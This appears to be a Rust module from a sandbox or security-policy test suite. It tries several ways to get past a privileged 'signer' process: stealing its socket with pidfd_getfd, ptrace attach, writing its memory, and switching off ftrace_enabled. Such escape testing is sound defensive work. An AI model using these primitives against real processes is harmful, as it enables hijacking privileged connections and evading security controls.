//! Reaching into the signer, which alone may send to the forbidden address. `BFP_VICTIM` is a process of
//! it that holds a connection, and `BFP_DESCRIPTOR` the connection's number there.
#![expect(unsafe_code, reason = "tracing and foreign memory")]

use std::io::{Seek, SeekFrom, Write};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd, RawFd};
use std::os::unix::process::CommandExt;
use std::process::Command;

use crate::Technique;
use crate::aim::Aim;
use crate::sys::{self, Refused};

pub(crate) const TECHNIQUES: &[Technique] = &[
    ("take-the-signers-socket", take_socket),
    ("trace-the-signer", trace),
    ("seize-the-signer", seize),
    ("write-the-signers-memory-by-proc", write_memory_by_proc),
    ("write-the-signers-memory", write_memory),
    ("read-the-signers-memory", read_memory),
    ("start-the-signer-traced", start_traced),
    ("change-ftrace-enabled", change_ftrace_enabled),
];

fn number(variable: &str) -> Result<i32, Refused> {
    let value = std::env::var(variable).ok().and_then(|value| value.parse().ok());
    value.ok_or(Refused::new("environment", libc::ENOENT))
}

fn victim() -> Result<i32, Refused> {
    number("BFP_VICTIM")
}

fn take_socket(_: &Aim) -> Result<(), Refused> {
    let (victim, descriptor) = (victim()?, number("BFP_DESCRIPTOR")?);
    // SAFETY: takes numbers; the descriptors are new.
    let socket = unsafe {
        let pidfd = sys::check("pidfd_open", libc::syscall(libc::SYS_pidfd_open, victim, 0))?;
        let pidfd = OwnedFd::from_raw_fd(pidfd as RawFd);
        let taken = libc::syscall(libc::SYS_pidfd_getfd, pidfd.as_raw_fd(), descriptor, 0);
        OwnedFd::from_raw_fd(sys::check("pidfd_getfd", taken)? as RawFd)
    };
    sys::send(&socket)
}

fn trace(_: &Aim) -> Result<(), Refused> {
    let victim = victim()?;
    // SAFETY: takes numbers and null pointers; the victim goes on as it was.
    unsafe {
        let null = std::ptr::null_mut::<libc::c_void>();
        sys::check("ptrace", libc::ptrace(libc::PTRACE_ATTACH, victim, null, null))?;
        libc::waitpid(victim, std::ptr::null_mut(), libc::__WALL);
        sys::check("ptrace", libc::ptrace(libc::PTRACE_DETACH, victim, null, null)).map(drop)
    }
}

fn seize(_: &Aim) -> Result<(), Refused> {
    let victim = victim()?;
    // SAFETY: as above.
    unsafe {
        let null = std::ptr::null_mut::<libc::c_void>();
        sys::check("ptrace", libc::ptrace(libc::PTRACE_SEIZE, victim, null, null)).map(drop)
    }
}

/// Somewhere in the victim that can be read and written: the beginning of its stack.
fn stack_of(victim: i32) -> Result<u64, Refused> {
    let maps = std::fs::read_to_string(format!("/proc/{victim}/maps")).map_err(Refused::io("open"))?;
    let line = maps.lines().find(|line| line.ends_with("[stack]")).ok_or(Refused::new("maps", libc::ENOENT))?;
    let end = line.split(['-', ' ']).nth(1).and_then(|word| u64::from_str_radix(word, 16).ok());
    end.map(|end| end - 8).ok_or(Refused::new("maps", libc::EINVAL))
}

fn write_memory_by_proc(_: &Aim) -> Result<(), Refused> {
    let victim = victim()?;
    let place = stack_of(victim)?;
    let memory = std::fs::OpenOptions::new().write(true).open(format!("/proc/{victim}/mem"));
    let mut memory = memory.map_err(Refused::io("open"))?;
    memory.seek(SeekFrom::Start(place)).map_err(Refused::io("lseek"))?;
    memory.write_all(&[0]).map_err(Refused::io("write"))
}

fn foreign(victim: i32, call: &'static str, number: libc::c_long) -> Result<(), Refused> {
    let mut byte = [0u8; 1];
    let own = libc::iovec { iov_base: byte.as_mut_ptr().cast(), iov_len: 1 };
    let there = libc::iovec { iov_base: stack_of(victim)? as *mut libc::c_void, iov_len: 1 };
    // SAFETY: the kernel checks the foreign address; one's own is alive and as long as is said.
    let moved = unsafe { libc::syscall(number, victim, &raw const own, 1usize, &raw const there, 1usize, 0usize) };
    sys::check(call, moved).map(drop)
}

fn write_memory(_: &Aim) -> Result<(), Refused> {
    foreign(victim()?, "process_vm_writev", libc::SYS_process_vm_writev)
}

fn read_memory(_: &Aim) -> Result<(), Refused> {
    foreign(victim()?, "process_vm_readv", libc::SYS_process_vm_readv)
}

/// A child that asks to be traced and then executes the signer: it must not be the signer.
fn start_traced(aim: &Aim) -> Result<(), Refused> {
    let mut command = Command::new("/usr/bin/signer");
    command.arg("connect").args(aim.words()).stdout(std::process::Stdio::piped());
    // SAFETY: one call that allocates nothing.
    unsafe {
        command.pre_exec(|| {
            let null = std::ptr::null_mut::<libc::c_void>();
            libc::ptrace(libc::PTRACE_TRACEME, 0, null, null);
            Ok(())
        });
    }
    let tracing = std::thread::spawn(move || -> Result<String, Refused> {
        let child = command.spawn().map_err(Refused::io("execve"))?;
        let pid = child.id() as i32;
        // SAFETY: takes numbers and null pointers. The tracer is the thread that started the child.
        unsafe {
            let null = std::ptr::null_mut::<libc::c_void>();
            let mut status = 0;
            while libc::waitpid(pid, &raw mut status, libc::__WALL) == pid && libc::WIFSTOPPED(status) {
                libc::ptrace(libc::PTRACE_CONT, pid, null, null);
            }
        }
        let mut said = String::new();
        if let Some(mut output) = child.stdout {
            let _unread = std::io::Read::read_to_string(&mut output, &mut said);
        }
        Ok(said.trim().to_owned())
    });
    let said = tracing.join().unwrap_or_else(|_| Err(Refused::new("thread", 0)))?;
    match said.as_str() {
        "ok" => Ok(()),
        said if said.ends_with("EPERM") => Err(Refused::new("the signer's connect", libc::EPERM)),
        _ => Err(Refused::new("the signer", libc::EINVAL)),
    }
}

/// Before 7.3 the kernel asks no program while this is 0.
fn change_ftrace_enabled(_: &Aim) -> Result<(), Refused> {
    let switch = "/proc/sys/kernel/ftrace_enabled";
    std::fs::write(switch, "0").map_err(Refused::io("write"))?;
    std::fs::write(switch, "1").map_err(Refused::io("write"))
}
